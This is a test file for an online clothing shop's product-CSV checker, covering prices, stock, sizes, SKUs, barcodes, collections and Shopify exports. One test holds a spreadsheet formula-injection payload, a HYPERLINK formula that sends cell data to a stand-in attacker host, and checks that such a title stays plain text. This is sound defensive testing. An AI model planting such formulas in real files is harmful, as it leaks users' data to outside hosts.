import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { EMPTY_SHOP, lookupOf, syntheticTransferProduct } from "../../testing/transfer-products.ts";
import { checkProductCsv } from "./product-csv-check.ts";
import { readProductCsv } from "./product-csv-file.ts";
import { PRODUCT_CSV_COLUMNS, type ProductColumn } from "./product-csv-layout.ts";
import { type ProductCsvLookup, problemText } from "./product-transfer.ts";

type Row = Partial<Record<ProductColumn, string>>;

const COLUMNS: ProductColumn[] = [
  "handle",
  "title",
  "body",
  "type",
  "published",
  "optionName",
  "size",
  "sku",
  "stock",
  "price",
  "barcode",
  "imageSrc",
  "imagePosition",
  "status",
  "category",
  "fabric",
  "hsn",
  "collections",
  "returnable",
  "reorderPoint",
];

const quote = (cell: string) => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);

/** A file in the shop's layout, written by hand as a spreadsheet would: LF line ends, cells quoted as needed. */
function csv(rows: Row[], columns = COLUMNS): string {
  const lines = [
    columns.map((key) => PRODUCT_CSV_COLUMNS[key].header),
    ...rows.map((row) => columns.map((key) => row[key] ?? "")),
  ];
  return `${lines.map((cells) => cells.map(quote).join(",")).join("\n")}\n`;
}

/** A new product's first row, with everything the shop needs. */
const saree = (extra: Row = {}): Row => ({
  handle: "red-silk-saree",
  title: "Red Silk Saree",
  body: "<p>Pure silk with a zari border.</p>",
  type: "Saree",
  optionName: "Size",
  size: "One Size",
  stock: "4",
  price: "4,999.00",
  imageSrc: "https://cdn.example/red-saree.jpg",
  collections: "Ethnic",
  ...extra,
});

async function check(text: string, lookup: ProductCsvLookup = EMPTY_SHOP) {
  return checkProductCsv(await readProductCsv([text]), lookup);
}

async function problemsOf(rows: Row[], lookup: ProductCsvLookup = EMPTY_SHOP) {
  return (await check(csv(rows), lookup)).problems.map(problemText);
}

describe("the check of a product file: every problem by line and column, in plain words", () => {
  it("plans a new product with every field the shop needs, and proposes SKUs the rows leave out", async () => {
    const plan = await check(
      csv([
        saree({ size: "S", sku: "", hsn: "", fabric: "Silk" }),
        { handle: "red-silk-saree", size: "M", sku: "WH-RS-M", stock: "2", price: "4999", barcode: "5901234123457" },
      ]),
    );
    expect(plan.problems).toEqual([]);
    expect(plan.creates).toEqual([
      {
        handle: "red-silk-saree",
        line: 2,
        title: "Red Silk Saree",
        description: "Pure silk with a zari border.",
        description1: "",
        category: "Ethnic",
        type: "Saree",
        fabric: "Silk",
        titleHi: null,
        descriptionHi: null,
        hsn: "5007",
        collections: ["isEthnic"],
        nonReturnable: false,
        onSale: true,
        price: 499_900,
        images: ["https://cdn.example/red-saree.jpg"],
        sizes: [
          {
            size: "S",
            sku: "KSR-RED-SILK-SAREE-S",
            barcode: null,
            stock: 4,
            reorderPoint: null,
            line: 2,
            skuProposed: true,
          },
          {
            size: "M",
            sku: "WH-RS-M",
            barcode: "5901234123457",
            stock: 2,
            reorderPoint: null,
            line: 3,
            skuProposed: false,
          },
        ],
      },
    ]);
  });

  it("reads rupees as the house does, grouping commas allowed, and says why an amount is not one", async () => {
    const prices = ["12,99.x", "12,99", "₹1299", "1299.999", "0", "-5", "1,00,00,001"];
    const problems = await problemsOf(prices.map((price, index) => saree({ handle: `p-${index}`, price })));
    expect(problems).toEqual([
      "Line 2, Variant Price: '12,99.x' is not an amount: write rupees as 1299 or 1,299.00.",
      "Line 3, Variant Price: '12,99' is not an amount: write rupees as 1299 or 1,299.00.",
      "Line 4, Variant Price: '₹1299' is not an amount: write rupees as 1299 or 1,299.00.",
      "Line 5, Variant Price: '1299.999' is not an amount: write rupees as 1299 or 1,299.00.",
      "Line 6, Variant Price: a price of ₹0 cannot be sold: write the price in rupees.",
      "Line 7, Variant Price: '-5' is not an amount: write rupees as 1299 or 1,299.00.",
      "Line 8, Variant Price: '1,00,00,001' is more than the ₹10,00,000 a price may be.",
    ]);
    const good = await check(
      csv(
        ["1,299.00", "1,29,999.50", "129,999.5", "1299"].map((price, index) => saree({ handle: `p-${index}`, price })),
      ),
    );
    expect(good.creates.map((product) => product.price)).toEqual([129_900, 12_999_950, 12_999_950, 129_900]);
  });

  it("counts stock in whole pieces from 0", async () => {
    const problems = await problemsOf([
      saree({ stock: "-3" }),
      saree({ handle: "b", stock: "2.5" }),
      saree({ handle: "c", stock: "1e3" }),
    ]);
    expect(problems).toEqual([
      "Line 2, Variant Inventory Qty: '-3' is below zero: the shop counts pieces from 0.",
      "Line 3, Variant Inventory Qty: '2.5' is not a whole number of pieces.",
      "Line 4, Variant Inventory Qty: '1e3' is not a whole number of pieces.",
    ]);
    const plan = await check(csv([saree({ stock: "1,200" }), saree({ handle: "b", stock: "" })]));
    expect(plan.creates.map((product) => product.sizes[0]?.stock)).toEqual([1200, 0]);
  });

  it("knows the sizes the shop sells however they are spelt, and names one it does not", async () => {
    const plan = await check(
      csv([
        saree({ handle: "a", size: "medium" }),
        saree({ handle: "b", size: "uk5" }),
        saree({ handle: "c", size: "Default Title", optionName: "Title" }),
        saree({ handle: "d", size: "free size" }),
        saree({ handle: "e", size: "xl" }),
      ]),
    );
    expect(plan.problems).toEqual([]);
    expect(plan.creates.map((product) => product.sizes[0]?.size)).toEqual(["M", "UK 5", "One Size", "One Size", "XL"]);
    expect(
      await problemsOf([saree({ size: "XXL" }), { handle: "red-silk-saree", size: "", price: "4999", sku: "X-1" }]),
    ).toEqual([
      "Line 2, Option1 Value: XXL is not a size the shop sells (it sells S, M, L, XL, UK 3 to UK 8, and One Size).",
      "Line 3, Option1 Value: the size is empty: name it (S, M, L, XL, UK 3 to UK 8 or One Size).",
    ]);
    expect(await problemsOf([saree({ size: "M" }), { handle: "red-silk-saree", size: "m" }])).toEqual([
      "Line 3, Option1 Value: size M is already on line 2 of this product.",
    ]);
  });

  it("sells by size alone: another option is refused, and so is a size row without a size", async () => {
    expect(await problemsOf([saree({ optionName: "Color" })])).toEqual([
      "Line 2, Option1 Name: 'Color': the shop's products vary by size alone, so Option1 Name is Size.",
    ]);
    const plan = await check(
      `Handle,Title,Option1 Value,Variant Price,Option2 Name,Option2 Value\nred,Red,M,999,Color,Red\n`,
    );
    expect(plan.problems.map(problemText)).toContain(
      "Line 2, Option2 Value: 'Red': the shop's products vary by size alone; make a product for each colour or style.",
    );
  });

  it("reads collections, HSN codes, TRUE and FALSE and statuses by the shop's rules", async () => {
    const problems = await problemsOf([
      saree({ handle: "a", collections: "Sarees, ethnic" }),
      saree({ handle: "b", hsn: "62" }),
      saree({ handle: "c", hsn: "9999" }),
      saree({ handle: "d", published: "yes" }),
      saree({ handle: "e", status: "live" }),
      saree({ handle: "f", returnable: "no" }),
    ]);
    expect(problems).toEqual([
      "Line 2, Collections: 'Sarees' is not a collection of the shop (Pakistani Suits, Korean Trendy, Pinterest Finds, Anarkali Dress, Western, Ethnic, Accessories, Handbags, Jewellery, More).",
      "Line 3, HSN: '62' is not an HSN code: it has 4, 6 or 8 digits.",
      "Line 4, HSN: the shop has no GST rate for HSN 9999 yet: choose a code from the rate table.",
      "Line 5, Published: 'yes' is neither TRUE nor FALSE.",
      "Line 6, Status: 'live' is not a status: use active, draft or archived.",
      "Line 7, Returnable: 'no' is neither TRUE nor FALSE.",
    ]);
    const plan = await check(
      csv([
        saree({ handle: "a", collections: "western, More Products", category: "" }),
        saree({ handle: "b", status: "draft", returnable: "FALSE" }),
        saree({ handle: "c", published: "false" }),
        saree({ handle: "d", published: "TRUE", status: "Active", hsn: "620442" }),
      ]),
    );
    expect(plan.problems).toEqual([]);
    expect(
      plan.creates.map((product) => [product.category, product.collections, product.onSale, product.nonReturnable]),
    ).toEqual([
      ["Western", ["isWestern", "isMore"], true, false],
      ["Ethnic", ["isEthnic"], false, true],
      ["Ethnic", ["isEthnic"], false, false],
      ["Ethnic", ["isEthnic"], true, false],
    ]);
  });

  it("keeps a title, a type, a category and a fabric to one line", async () => {
    expect(
      await problemsOf([
        saree({ title: "Red\nSaree" }),
        saree({ handle: "b", type: "Saree\t", fabric: "Silk\r\nblend" }),
      ]),
    ).toEqual([
      "Line 2, Title: the title holds a line break or a tab: it is one line of text.",
      "Line 4, Fabric: the fabric holds a line break or a tab: it is one line of text.",
    ]);
  });

  it("keeps a title that looks like a formula as the text it is", async () => {
    const plan = await check(csv([saree({ title: '=HYPERLINK("http://evil.test/?d="&A1,"Saree")' })]));
    expect(plan.problems).toEqual([]);
    expect(plan.creates[0]?.title).toBe('=HYPERLINK("http://evil.test/?d="&A1,"Saree")');
  });

  it("lists what a new product lacks, each on its first line", async () => {
    expect(await problemsOf([{ handle: "bare", size: "M" }])).toEqual([
      "Line 2, Title: a new product needs a title.",
      "Line 2, Body (HTML): a new product needs a description.",
      "Line 2, Type: a new product needs a type (Kurta, Saree, Top…).",
      "Line 2, Variant Price: a new product needs a price.",
      "Line 2, Image Src: a new product needs at least one picture (its https:// address).",
      "Line 2, Category: a new product needs a category, or a collection to take it from.",
    ]);
  });

  it("keeps later rows of a product to its sizes: a product column that differs there is a problem, one repeated is not", async () => {
    const problems = await problemsOf([
      saree({ size: "S" }),
      { handle: "red-silk-saree", size: "M", title: "Red Silk Saree", type: "Lehenga" },
      { handle: "red-silk-saree", size: "L", fabric: "Silk" },
    ]);
    expect(problems).toEqual([
      "Line 3, Type: 'Lehenga' differs from 'Saree' on the product's first row (line 2): later rows leave the product's columns blank.",
      "Line 4, Fabric: the product's columns belong on its first row (line 2); later rows leave them blank.",
    ]);
  });

  it("sells every size of a product at one price", async () => {
    expect(
      await problemsOf([saree({ size: "S" }), { handle: "red-silk-saree", size: "M", price: "5,199.00" }]),
    ).toEqual([
      "Line 3, Variant Price: '5,199.00' differs from the price on line 2: the shop sells every size of a product at one price.",
    ]);
  });

  it("checks SKUs and barcodes: their form, once in the file, and not another product's in the shop", async () => {
    const shop = lookupOf([syntheticTransferProduct(12)]);
    const taken = syntheticTransferProduct(12);
    const problems = await problemsOf(
      [
        saree({ size: "S", sku: "KSR 1 S" }),
        { handle: "red-silk-saree", size: "M", sku: "ksr-1-m", barcode: "5901234123458" },
        { handle: "red-silk-saree", size: "L", sku: "KSR-1-M", barcode: "8.90123E+12" },
        saree({ handle: "blue-saree", sku: taken.sizes[0]?.sku, barcode: taken.sizes[1]?.barcode ?? "" }),
        saree({ handle: "green-saree", size: "S", sku: "GS-1", barcode: "WH-7" }),
        { handle: "green-saree", size: "M", sku: "GS-2", barcode: "WH-7" },
      ],
      shop,
    );
    expect(problems).toEqual([
      `Line 2, Variant SKU: 'KSR 1 S' is not an SKU: use letters A–Z and digits, with "-", "_", "." or "/" between them, and no spaces.`,
      "Line 3, Variant Barcode: '5901234123458' is not a valid EAN-13: its check digit would be 7, not 8.",
      "Line 4, Variant Barcode: '8.90123E+12' is a number a spreadsheet shortened: format the column as text and type the barcode again.",
      "Line 4, Variant SKU: SKU KSR-1-M is also on line 3 (this product): each size has its own.",
      `Line 5, Variant SKU: SKU KSR-12-S is already used by 'Festive Printed Kurta Set 12' (${taken.handle}).`,
      `Line 5, Variant Barcode: barcode ${taken.sizes[1]?.barcode} is already used by 'Festive Printed Kurta Set 12' (${taken.handle}).`,
      "Line 7, Variant Barcode: barcode WH-7 is also on line 6 (this product): each size has its own.",
    ]);
  });

  it("proposes an SKU that is free in the file and in the shop", async () => {
    const shop = lookupOf([
      {
        ...syntheticTransferProduct(12),
        sizes: [{ size: "S", sku: "KSR-RED-SILK-SAREE-S", barcode: null, stock: 1, reorderPoint: null }],
      },
    ]);
    const plan = await check(
      csv([
        saree({ size: "S" }),
        { handle: "red-silk-saree", size: "M", sku: "KSR-RED-SILK-SAREE-M" },
        { handle: "red-silk-saree", size: "L" },
      ]),
      shop,
    );
    expect(plan.problems).toEqual([]);
    expect(plan.creates[0]?.sizes.map((size) => size.sku)).toEqual([
      "KSR-RED-SILK-SAREE-S-2",
      "KSR-RED-SILK-SAREE-M",
      "KSR-RED-SILK-SAREE-L",
    ]);
  });

  it("takes pictures from any row in the order of their positions, up to five, and only web addresses", async () => {
    const plan = await check(
      csv([
        saree({ size: "S", imageSrc: "https://cdn.example/2.jpg", imagePosition: "2" }),
        { handle: "red-silk-saree", size: "M", imageSrc: "https://cdn.example/1.jpg", imagePosition: "1" },
        { handle: "red-silk-saree", imageSrc: "https://cdn.example/3.jpg" },
      ]),
    );
    expect(plan.problems).toEqual([]);
    expect(plan.creates[0]?.images).toEqual([
      "https://cdn.example/1.jpg",
      "https://cdn.example/2.jpg",
      "https://cdn.example/3.jpg",
    ]);
    expect(plan.creates[0]?.sizes.map((size) => size.size)).toEqual(["S", "M"]);
    const pictures = Array.from({ length: 6 }, (_, index) => ({
      handle: "red-silk-saree",
      imageSrc: `https://cdn.example/${index}.jpg`,
    }));
    expect(await problemsOf([saree({ imageSrc: "ftp://cdn.example/x.jpg" }), ...pictures])).toEqual([
      "Line 2, Image Src: 'ftp://cdn.example/x.jpg' is not a picture's address: it starts with https://.",
      "Line 8, Image Src: a product has at most 5 pictures; this is its 6th.",
    ]);
  });

  it("numbers lines as the file's editor does, past descriptions over several lines", async () => {
    const plan = await check(
      csv([saree({ body: "<p>One</p>\n<p>Two</p>\n<p>Three</p>" }), saree({ handle: "blue", price: "12,99.x" })]),
    );
    expect(plan.problems.map(problemText)).toEqual([
      "Line 5, Variant Price: '12,99.x' is not an amount: write rupees as 1299 or 1,299.00.",
    ]);
    expect(plan.creates[0]?.description1).toBe("Two\nThree");
  });

  it("refuses a product with a problem whole, plans the others, and lists problems in the file's order", async () => {
    const plan = await check(
      csv([
        saree({ handle: "a" }),
        saree({ handle: "b", size: "XXL" }),
        saree({ handle: "c" }),
        { handle: "Not A Handle!" },
      ]),
    );
    expect(plan.creates.map((product) => product.handle)).toEqual(["a", "c"]);
    expect(plan.refused).toEqual([{ handle: "b", line: 3 }]);
    expect(plan.problems.map((problem) => [problem.line, problem.column])).toEqual([
      [3, "Option1 Value"],
      [5, "Handle"],
    ]);
    expect(plan.problems[1]?.message).toBe(
      "'not a handle!' is not a handle: use lower-case letters a–z, digits and hyphens, such as red-silk-saree.",
    );
  });
});

describe("the check against the shop's products", () => {
  const kurta = syntheticTransferProduct(12);
  const shop = lookupOf([kurta]);
  const row = (size: string, extra: Row = {}): Row => ({ handle: kurta.handle, size, ...extra });

  it("matches sizes by SKU, then by size, keeps what the rows leave blank, and says what would change", async () => {
    const plan = await check(
      csv([
        row("S", { title: kurta.title, price: "1,299.00", sku: kurta.sizes[0]?.sku, stock: "9" }),
        row("M", { sku: "WH-KURTA-M" }),
        row("One Size", { stock: "3", reorderPoint: "1" }),
      ]),
      shop,
    );
    expect(plan.problems).toEqual([]);
    expect(plan.creates).toEqual([]);
    expect(plan.updates).toHaveLength(1);
    expect(plan.updates[0]?.changes).toEqual([
      "Price: ₹2,199 → ₹1,299",
      "Size S: stock 12 → 9",
      "Size M: SKU KSR-12-M → WH-KURTA-M",
      "New One Size (KSR-12-OS), stock 3",
    ]);
    const product = plan.updates[0]?.product;
    expect(product?.images).toEqual(kurta.images);
    expect(product?.description).toBe(kurta.description);
    expect(product?.sizes.map((size) => [size.size, size.sku, size.stock, size.line])).toEqual([
      ["S", "KSR-12-S", 9, 2],
      ["M", "WH-KURTA-M", 0, 3],
      ["L", "KSR-12-L", 1, null],
      ["XL", "KSR-12-XL", 2, null],
      ["One Size", "KSR-12-OS", 3, 4],
    ]);
  });

  it("finds nothing to change when the file says what the shop has", async () => {
    const plan = await check(csv([row("S", { title: kurta.title, stock: "12", sku: "KSR-12-S" })]), shop);
    expect(plan.problems).toEqual([]);
    expect(plan.updates).toEqual([]);
    expect(plan.unchanged.map((product) => product.handle)).toEqual([kurta.handle]);
  });

  it("refuses a row whose SKU or barcode is another size's of the product", async () => {
    const problems = await problemsOf(
      [row("L", { sku: "KSR-12-M" }), row("S", { barcode: kurta.sizes[2]?.barcode ?? "" })],
      shop,
    );
    expect(problems).toEqual([
      "Line 2, Option1 Value: KSR-12-M is this product's size M, not L: change the SKU or the size.",
      `Line 3, Variant Barcode: barcode ${kurta.sizes[2]?.barcode} is this product's size L too: each size has its own.`,
    ]);
  });

  it("takes a warehouse's count: a file of SKUs and stock changes stock alone", async () => {
    const count = "Handle,Title,Option1 Value,Variant SKU,Variant Price,Variant Inventory Qty\n";
    const plan = await check(`${count}${kurta.handle},,S,KSR-12-S,,30\n${kurta.handle},,M,KSR-12-M,,0\n`, shop);
    expect(plan.problems).toEqual([]);
    expect(plan.updates.map((update) => update.changes)).toEqual([["Size S: stock 12 → 30"]]);
  });

  it("never clears a description with a body that holds no text", async () => {
    expect(await problemsOf([row("S", { body: "<p> </p>" })], shop)).toEqual([
      "Line 2, Body (HTML): the description is empty once its HTML is taken off.",
    ]);
  });
});

describe("a Shopify export", () => {
  it("reads Shopify's own product export: sizes, Default Title, picture rows, HTML bodies and collections from tags", async () => {
    const sample = readFileSync(new URL("./fixtures/shopify-products-export.csv", import.meta.url));
    const plan = checkProductCsv(await readProductCsv([sample]), EMPTY_SHOP);
    expect(plan.problems).toEqual([]);
    expect(plan.notices[0]).toMatch(/^Columns the shop does not keep, read past: Product Category, Variant Grams, /);
    expect(plan.notices[1]).toBe(
      "Variant Compare At Price is read past: the shop shows one price a product, without a price to compare with.",
    );
    expect(plan.rows).toBe(9);
    expect(
      plan.creates.map((product) => ({
        handle: product.handle,
        line: product.line,
        title: product.title,
        category: product.category,
        price: product.price,
        pictures: product.images.length,
        sizes: product.sizes.map(
          (size) => `${size.size} ${size.sku} ${size.stock}${size.barcode ? ` ${size.barcode}` : ""}`,
        ),
      })),
    ).toEqual([
      {
        handle: "banarasi-katan-silk-saree",
        line: 2,
        title: "Banarasi Katan Silk Saree",
        category: "Ethnic",
        price: 1_249_900,
        pictures: 2,
        sizes: ["One Size BNR-KATAN-001 4 8901234567890"],
      },
      {
        handle: "lucknowi-chikankari-kurta",
        line: 8,
        title: 'Lucknowi "Chikankari" Kurta',
        category: "Ethnic",
        price: 189_900,
        pictures: 2,
        sizes: ["S CHK-KURTA-S 5", "M CHK-KURTA-M 8 WH-A17-M", "L CHK-KURTA-L 0", "XL CHK-KURTA-XL 2"],
      },
      {
        handle: "kolhapuri-leather-flats",
        line: 13,
        title: "Kolhapuri Leather Flats",
        category: "Accessories",
        price: 129_900,
        pictures: 1,
        sizes: ["UK 5 KOL-FLAT-5 10", "UK 6 KOL-FLAT-6 12", "UK 7 KOL-FLAT-7 6"],
      },
    ]);
    const saree = plan.creates[0];
    expect([saree?.description, saree?.description1, saree?.hsn]).toEqual([
      "Handwoven Katan silk with zari buttis & a rich pallu.",
      "Length: 6.3 m with blouse piece\nDry clean only",
      "5007",
    ]);
    expect(plan.creates[1]?.collections).toEqual(["isPinterestFinds", "isEthnic"]);
  });

  it("reads Shopify's newer header spellings as the same file", async () => {
    const older = readFileSync(new URL("./fixtures/shopify-products-export.csv", import.meta.url), "utf8");
    const [header = "", ...rest] = older.split("\n");
    const renamed = header
      .replace(/^Handle,/, "URL handle,")
      .replace("Body (HTML)", "Description")
      .replace("Option1 Name,Option1 Value", "Option1 name,Option1 value")
      .replace("Variant SKU", "SKU")
      .replace("Variant Inventory Qty", "Inventory quantity")
      .replace("Variant Price,Variant Compare At Price", "Price,Compare-at price")
      .replace("Variant Barcode", "Barcode")
      .replace("Image Src,Image Position", "Product image URL,Image position")
      .replace(",Published,", ",Published on online store,");
    const newer = checkProductCsv(await readProductCsv([[renamed, ...rest].join("\n")]), EMPTY_SHOP);
    const old = checkProductCsv(await readProductCsv([older]), EMPTY_SHOP);
    expect(newer.problems).toEqual([]);
    expect(newer.creates).toEqual(old.creates);
    expect(newer.notices[1]).toBe(
      "Compare-at price is read past: the shop shows one price a product, without a price to compare with.",
    );
  });
});
